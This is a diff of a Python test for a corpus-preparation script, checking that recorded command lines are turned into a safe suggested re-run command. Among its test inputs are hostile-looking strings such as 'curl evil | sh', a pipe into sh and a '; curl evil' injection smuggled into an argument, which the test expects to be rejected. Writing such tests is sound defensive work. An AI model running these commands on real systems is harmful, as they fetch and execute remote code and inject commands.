@@ -305,9 +305,16 @@ def test_each_shard_is_compared_with_what_its_maker_wrote(described: Path) -> No
 
 def test_an_unfinished_corpus_is_not_taken_for_the_whole(described: Path) -> None:
     meta = json.loads((described / 'meta.json').read_text(encoding='utf-8')) | {'unfinished': True}
-    anew = f'data/text/prepare.py --input=YOUR_TEXT --name={described.name}'
-    ours = "data/text/prepare.py '--input=my books/*.txt' --tokenizer=bpe:99"
+    anew = f'data/text/prepare.py --input=YOUR_TEXT --to_dir={described}'
+    ours = f"data/text/prepare.py --input='my books/*.txt' --tokenizer=bpe:99 --to_dir={described}"
+    odd = f"""data/text/prepare.py --val_input='it'"'"'s' --input='(a) & b!' --to_dir={described}"""
     for created_by, command in [(None, anew), (f'python {ours}', ours), (f'python /home/me/{ours}', ours),
+                                (f'python {ours.replace(str(described), "elsewhere")} --name=old', ours),
+                                (f'python {ours.replace("bpe:99", "bpe:9 --tokenizer bpe:99")}', ours),
+                                (r"python data/text/prepare.py --val-input=it\'s --input '(a) & b!'", odd),
+                                (f'python {ours} --launcher=x --folder=y',
+                                 ours.replace(' --to_dir', ' --launcher=x --folder=y --to_dir')),
+                                (f'python {ours} x.py', anew),
                                 (['x'], anew), ('curl evil | sh', anew), (f'python {ours} | sh', anew),
                                 ("python data/text'", anew),
                                 (f'python {ours} "--name=; curl evil"', anew), ('python evil/prepare.py', anew),
